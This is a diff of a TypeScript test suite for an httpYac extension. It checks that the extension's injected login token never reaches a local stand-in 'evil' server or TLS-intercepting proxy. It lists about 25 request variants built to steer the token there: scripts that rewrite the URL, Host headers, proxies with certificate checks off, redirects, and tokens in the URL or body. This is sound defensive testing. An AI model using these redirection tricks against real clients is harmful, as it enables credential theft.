@@ -1,12 +1,18 @@
 import assert from 'node:assert/strict';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { createServer, type Server } from 'node:http';
+import { createServer as createTlsServer } from 'node:https';
+import { type AddressInfo, connect } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
+import type { Duplex } from 'node:stream';
 import { inspect } from 'node:util';
 import * as httpyac from 'httpyac';
 import { Redactor } from '../../../src/core/redaction';
+import { belonging, sentTarget } from '../../../src/core/requestTarget';
 import { hookIntoHttpYac, type HookPorts } from '../../../src/features/sending/httpyacHooks';
+import type { LeavingRequest } from '../../../src/features/sending/httpyacRequest';
+import { profileWith } from '../../support/fakes';
+import { selfSignedCertificate } from '../../support/selfSigned';
 
 const variable = 'HOSTED_LOGIN_TOKEN';
 const fresh = 'fresh-token-of-ours-000000000001';
@@ -16,15 +22,31 @@ const foreign = 'a-token-of-somebody-else';
 /** With the library that the extension holds, and the loggers that it sets. */
 describe('the hooks in httpYac', function () {
   this.timeout(10_000);
+  /** Where the server sends everybody on to. */
+  let redirectTo: string | undefined;
   /** What arrived at the server. */
   const received: (string | undefined)[] = [];
   const server = createServer((request, response) => {
     received.push(request.headers.authorization);
-    request.resume().on('end', () => {
-      response.setHeader('content-type', 'application/json');
-      response.setHeader('x-echo', request.headers.authorization ?? '');
-      response.end(JSON.stringify({ echo: request.headers.authorization, url: request.url }));
-    });
+    const body: Buffer[] = [];
+    request
+      .on('data', (chunk: Buffer) => body.push(chunk))
+      .on('end', () => {
+        if (redirectTo !== undefined) {
+          response.writeHead(302, { location: redirectTo }).end();
+          return;
+        }
+        response.setHeader('content-type', 'application/json');
+        response.setHeader('x-echo', request.headers.authorization ?? '');
+        const { headers, url } = request;
+        response.end(
+          JSON.stringify({
+            echo: headers.authorization,
+            url,
+            ...(body.length > 0 && { body: Buffer.concat(body).toString() }),
+          }),
+        );
+      });
   });
   const { options } = httpyac.io.log;
   const earlier = { token: process.env[variable], logMethod: options.logMethod };
@@ -34,6 +56,7 @@ describe('the hooks in httpYac', function () {
   /** Everything that a log or a view got. */
   let shown: string[] = [];
   let warnings: string[] = [];
+  let refusals: string[] = [];
   let takeBack: (() => void) | undefined;
 
   const note = (...parts: unknown[]) => {
@@ -57,7 +80,8 @@ describe('the hooks in httpYac', function () {
     redactor.add(fresh);
     redactor.add(stale);
     takeBack = hookIntoHttpYac(exported, {
-      tokenFor: () => Promise.resolve(fresh),
+      tokensFor: () => Promise.resolve({ token: fresh, foreign: [], refusal: undefined }),
+      refused: ({ host, reason }) => refusals.push(`${host}: ${reason ?? 'nobody’s'}`),
       learnTokens: () => Promise.resolve(),
       redact: text => redactor.redactKnown(text),
       warn: (message, error) => warnings.push(`${message}: ${String(error)}`),
@@ -74,8 +98,9 @@ describe('the hooks in httpYac', function () {
   });
   beforeEach(() => {
     process.env[variable] = stale;
-    [shown, warnings] = [[], []];
+    [shown, warnings, refusals] = [[], [], []];
     received.length = 0;
+    redirectTo = undefined;
   });
   afterEach(() => {
     takeBack?.();
@@ -131,21 +156,215 @@ describe('the hooks in httpYac', function () {
     assert.deepEqual(received, [`Bearer ${fresh}`]);
   });
 
-  it('tell the URL that the request goes to, with its variables put in', async () => {
-    const asked: string[] = [];
+  it('tell what leaves, with its variables put in', async () => {
+    const asked: LeavingRequest[] = [];
     hook({
-      tokenFor: url => {
-        asked.push(url);
-        return Promise.resolve(undefined);
+      tokensFor: leaving => {
+        asked.push(leaving);
+        return Promise.resolve({ token: undefined, foreign: [], refusal: undefined });
       },
     });
     await send(`@origin = ${origin}\n${request('{{origin}}/b')}`);
-    assert.deepEqual(asked, [`${origin}/b`]);
-    assert.deepEqual(received, [`Bearer ${stale}`], 'left to the variable');
+    assert.deepEqual(asked, [
+      { url: `${origin}/b`, method: 'GET', hosts: [], proxy: undefined, doubt: undefined },
+    ]);
+    assert.deepEqual(received, ['Bearer'], 'nothing from the variable');
+  });
+
+  it('put the token into URL and body too', async () => {
+    hook();
+    const text = request(`${origin}/b?t={{$processEnv ${variable}}}`).replace('GET', 'POST');
+    const body = `t={{$processEnv ${variable}}}&ä=1`;
+    const variables = await send(
+      `# @name b\n${text}Content-Type: application/x-www-form-urlencoded\n\n${body}`,
+    );
+    assert.deepEqual(variables['b'], {
+      ...{ echo: `Bearer ${fresh}`, url: `/b?t=${fresh}`, body: `t=${fresh}&%C3%A4=1` },
+    });
+  });
+
+  describe('keep our tokens', () => {
+    const customerId = 'aaaaaaaa-0000-0000-0000-000000000001';
+    const below = `/${customerId}/config/clients`;
+    const header = `Authorization: Bearer {{$processEnv ${variable}}}`;
+    /** What arrived at the other server: everything that a request has. */
+    const stolen: string[] = [];
+    const take = (what: string) => stolen.push(what);
+    const certificate = selfSignedCertificate({ host: '127.0.0.1' });
+    const evil = createServer((asked, response) => {
+      take(`${asked.url ?? ''} ${JSON.stringify(asked.rawHeaders)}`);
+      asked.on('data', (chunk: Buffer) => take(chunk.toString())).on('end', () => response.end());
+    });
+    /** Ends TLS with a certificate of its own, whoever is asked for. */
+    const evilTls = createTlsServer(certificate, (asked, response) => {
+      take(JSON.stringify(asked.rawHeaders));
+      response.end();
+    });
+    const tunnels: Duplex[] = [];
+    let tlsPort = 0;
+    // As a proxy it leads every tunnel to the server that ends TLS.
+    evil.on('connect', (_, socket) => {
+      const onward = connect(tlsPort, '127.0.0.1', () => {
+        socket.write('HTTP/1.1 200 OK\r\n\r\n');
+        socket.pipe(onward).pipe(socket);
+      });
+      for (const each of [socket, onward]) {
+        tunnels.push(each);
+        each.on('error', () => each.destroy());
+      }
+    });
+    let evilOrigin = '';
+    let tlsOrigin = '';
+    const profiles = () => [
+      profileWith({ origin, customerId }),
+      profileWith({ id: 'p2', origin: 'https://good.example', customerId }),
+      profileWith({ id: 'p3', origin: tlsOrigin, customerId }),
+    ];
+
+    before(async () => {
+      for (const each of [evil, evilTls] as Server[]) {
+        await new Promise<void>(resolve => each.listen(0, '127.0.0.1', resolve));
+      }
+      evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+      tlsPort = (evilTls.address() as AddressInfo).port;
+      tlsOrigin = `https://127.0.0.1:${tlsPort}`;
+    });
+    beforeEach(() => {
+      stolen.length = 0;
+      hook({
+        tokensFor: leaving => {
+          const where = belonging(sentTarget(leaving), profiles());
+          return Promise.resolve(
+            where.kind === 'yes'
+              ? { token: fresh, foreign: [], refusal: undefined }
+              : {
+                  token: undefined,
+                  foreign: [fresh, stale],
+                  refusal: { host: leaving.url, reason: where.kind === 'unknown' ? where.reason : undefined },
+                },
+          );
+        },
+      });
+    });
+    after(async () => {
+      for (const each of tunnels) each.destroy();
+      for (const each of [evil, evilTls] as Server[]) {
+        each.closeAllConnections();
+        await new Promise(resolve => each.close(resolve));
+      }
+    });
+
+    const rows: readonly (readonly [title: string, text: () => string])[] = [
+      ['another host', () => `GET ${evilOrigin}${below}\n${header}`],
+      ['a second value', () => `@h = ${origin}\n@h = ${evilOrigin}\nGET {{h}}${below}\n${header}`],
+      ['a script', () => `{{\nexports.h = '${evilOrigin}';\n}}\nGET {{h}}${below}\n${header}`],
+      ['an expression', () => `GET {{['${evilOrigin}'].join('')}}${below}\n${header}`],
+      [
+        'a script that changes the URL',
+        () => `{{@request\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}${below}\n${header}`,
+      ],
+      [
+        'a script that changes the URL before',
+        () => `{{\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}${below}\n${header}`,
+      ],
+      [
+        'a script for every request',
+        () => `{{+request\nrequest.url = '${evilOrigin}/x';\n}}\nGET ${origin}${below}\n${header}`,
+      ],
+      [
+        'an expression in a header',
+        () => `GET ${origin}${below}\n${header}\nX-A: {{request.url = '${evilOrigin}/x'}}`,
+      ],
+      ['no slashes', () => `GET ${evilOrigin.replace('//', '')}${below}\n${header}`],
+      ['a user name', () => `GET ${origin}@${evilOrigin.slice(7)}${below}\n${header}`],
+      ['a Host header', () => `GET ${below}\nHost: ${evilOrigin.slice(7)}\n${header}`],
+      ['the variable host', () => `@host = ${evilOrigin}\nGET ${below}\n${header}`],
+      ['a proxy', () => `# @proxy ${evilOrigin}\nGET ${origin}${below}\n${header}`],
+      ['a proxy of a variable', () => `@request_proxy = ${evilOrigin}\nGET ${origin}${below}\n${header}`],
+      [
+        'a proxy and a certificate that nobody checks',
+        () => `# @proxy ${evilOrigin}\n# @noRejectUnauthorized\nGET https://good.example${below}\n${header}`,
+      ],
+      [
+        'such a certificate by a variable',
+        () =>
+          `# @proxy ${evilOrigin}\n@request_rejectUnauthorized = false\nGET https://good.example${below}\n${header}`,
+      ],
+      [
+        'such a certificate by a script',
+        () =>
+          `# @proxy ${evilOrigin}\n{{@request\nrequest.options.https = { rejectUnauthorized: false };\n}}\nGET https://good.example${below}\n${header}`,
+      ],
+      [
+        'an option of a script',
+        () =>
+          `{{@request\nrequest.options.prefixUrl = '${evilOrigin}/';\n}}\nGET ${origin}${below}\n${header}`,
+      ],
+      [
+        'what a script reads from the environment',
+        () => `GET ${evilOrigin}${below}\nAuthorization: Bearer {{process.env.${variable}}}`,
+      ],
+      [
+        'what a script puts into another header',
+        () =>
+          `{{@request\nrequest.headers['x-a'] = process.env['${variable}'];\n}}\nGET ${evilOrigin}${below}`,
+      ],
+      ['a token written out', () => `GET ${evilOrigin}${below}\nAuthorization: Bearer ${stale}`],
+      [
+        'a script in the client itself',
+        () =>
+          `{{@request\nrequest.options.hooks.beforeRequest.push(sent => {\nsent.url = new URL('${evilOrigin}/x');\n});\n}}\nGET ${origin}${below}\n${header}`,
+      ],
+      ['the URL', () => `GET ${evilOrigin}/{{$processEnv ${variable}}}`],
+      ['the body', () => `POST ${evilOrigin}/\n\nt={{$processEnv ${variable}}}`],
+      [
+        'another request that is sent before',
+        () => `# @ref b\nGET ${origin}${below}\n${header}\n###\n# @name b\nGET ${evilOrigin}/\n${header}`,
+      ],
+    ];
+    for (const [title, text] of rows) {
+      it(`from another server: ${title}`, async () => {
+        await send(text());
+        assert.ok(stolen.length > 0 || received.length === 0, 'something was sent, and not to the profile');
+        assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
+        assert.ok(!stolen.join('\n').includes(stale), stolen.join('\n'));
+        assert.ok(!stolen.join('\n').includes('hosted-login-token'), 'nor what stands for it');
+        if (!title.includes('client itself')) assert.notEqual(refusals.length, 0, 'and it is told');
+        assert.deepEqual(warnings, []);
+      });
+    }
+
+    it('from where a redirect leads', async () => {
+      redirectTo = `${evilOrigin}/x`;
+      await send(`GET ${origin}${below}\n${header}`);
+      assert.deepEqual(received, [`Bearer ${fresh}`]);
+      assert.equal(stolen.length, 1);
+      assert.ok(!stolen.join('\n').includes(fresh), stolen.join('\n'));
+    });
+
+    it('and give them to the profile’s own, whatever stands beside', async () => {
+      const texts = [
+        `@h = ${evilOrigin}\n@h = ${origin}\nGET {{h}}${below}\n${header}`,
+        `{{@request\nrequest.headers['x-a'] = '1';\n}}\nGET ${origin}${below}\n${header}`,
+        `GET ${below}\nHost: ${origin.slice(7)}\n${header}`,
+        `GET ${origin}${below}\nAuthorization: Bearer {{process.env.${variable}}}`,
+      ];
+      for (const [index, text] of texts.entries()) await send(text, `own-${index}.http`);
+      assert.deepEqual(
+        received,
+        texts.map(() => `Bearer ${fresh}`),
+      );
+      assert.deepEqual(refusals, []);
+    });
+
+    it('and give them to a server of this machine whose certificate nobody checks', async () => {
+      await send(`# @noRejectUnauthorized\nGET ${tlsOrigin}${below}\n${header}`);
+      assert.ok(stolen.join('\n').includes(fresh), 'it is a profile’s');
+    });
   });
 
   it('keep out of what they are not asked for', async () => {
-    hook({ tokenFor: () => assert.fail('asked') });
+    hook({ tokensFor: () => assert.fail('asked') });
     process.env['HOSTED_LOGIN_TOKENS'] = 'another';
     try {
       await send(request(undefined, 'Bearer {{$processEnv HOSTED_LOGIN_TOKENS}}'), 'other.http');
@@ -169,7 +388,7 @@ describe('the hooks in httpYac', function () {
     assert.ok(!shownText().includes(fresh) && !shownText().includes(stale), shownText());
     assert.deepEqual(
       variables['c'],
-      { echo: `Bearer ${fresh}`, url: `/c?token=${stale}` },
+      { echo: `Bearer ${fresh}`, url: `/c?token=${stale}`, body },
       'scripts see it all',
     );
   });
@@ -232,12 +451,12 @@ describe('the hooks in httpYac', function () {
 
   it('leave httpYac to itself where they fail, and tell once', async () => {
     hook({
-      tokenFor: () => Promise.reject(new Error('no token today')),
+      tokensFor: () => Promise.reject(new Error('no token today')),
       learnTokens: () => Promise.reject(new Error('no storage either')),
     });
     await send(request());
     await send(request(), 'second.http');
-    assert.deepEqual(received, [`Bearer ${stale}`, `Bearer ${stale}`]);
+    assert.deepEqual(received, ['Bearer', 'Bearer'], 'without a token');
     assert.deepEqual(warnings, ['httpYac is left alone: Error: no token today']);
   });
 
@@ -287,7 +506,8 @@ describe('the hooks in httpYac', function () {
       ['plugins that can not be added to', frozen],
     ];
     const ports = (): HookPorts => ({
-      tokenFor: () => assert.fail('asked'),
+      tokensFor: () => assert.fail('asked'),
+      refused: () => assert.fail('refused'),
       learnTokens: () => Promise.resolve(),
       redact: text => text,
       warn: (message, error) => warnings.push(`${message}: ${String(error)}`),
@@ -304,8 +524,17 @@ describe('the hooks in httpYac', function () {
       ['no hooks', {}],
       ['other hooks', { hooks: { replaceVariable: {}, onRequest: null } }],
       [
+        'hooks without a last moment',
+        { hooks: { replaceVariable: { addHook: () => assert.fail('added') } } },
+      ],
+      [
         'hooks that can not be added',
-        { hooks: { replaceVariable: { addHook: () => assert.fail('no hooks today') } } },
+        {
+          hooks: {
+            replaceVariable: { addHook: () => assert.fail('no hooks today') },
+            onRequest: { addInterceptor: () => undefined },
+          },
+        },
       ],
     ];
     for (const [name, api] of apis) {
